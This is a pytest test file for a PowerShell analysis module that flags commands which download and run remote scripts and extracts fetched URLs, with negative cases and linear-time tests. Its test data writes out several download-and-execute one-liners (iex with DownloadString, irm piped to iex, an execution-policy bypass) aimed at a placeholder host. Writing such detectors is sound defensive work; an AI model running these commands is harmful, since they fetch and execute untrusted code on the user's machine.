import pytest
from tests.support.work import ends

from careen.formats.shell.powershell import fetched, run_unseen


@pytest.mark.parametrize(
    "text",
    [
        "iex ((New-Object Net.WebClient).DownloadString('https://a.example/i.ps1'))",
        "Set-ExecutionPolicy Bypass; Invoke-Expression (Invoke-WebRequest https://a.example/i.ps1 -UseBasicParsing).Content",
        "irm https://a.example/i.ps1 | iex",
        "(iwr 'https://a.example/i.ps1').Content | IEX",
    ],
)
def test_scripts_that_are_run_unseen(text):
    assert len(run_unseen(text)) == 1


@pytest.mark.parametrize(
    "text",
    [
        "iex $command; iwr https://a.example/x -OutFile x",
        "iwr https://a.example/x -OutFile x",
        "Write-Host iexplore",
        "irmtool | iex",
    ],
)
def test_other_texts_run_nothing_unseen(text):
    assert run_unseen(text) == []


def test_addresses_that_are_fetched():
    text = "$x = 'http://a.example/name'; Invoke-WebRequest -Uri http://b.example/s.exe -OutFile s.exe; echo http://c.example"
    assert fetched(text) == ["http://b.example/s.exe"]


@pytest.mark.parametrize("piece", ["iex ", "iwr ", "iwr |", "http://", "| iex ", ";", "a"])
def test_time_is_linear(piece):
    with ends():
        text = piece * (200_000 // len(piece))
        run_unseen(text)
        fetched(text)
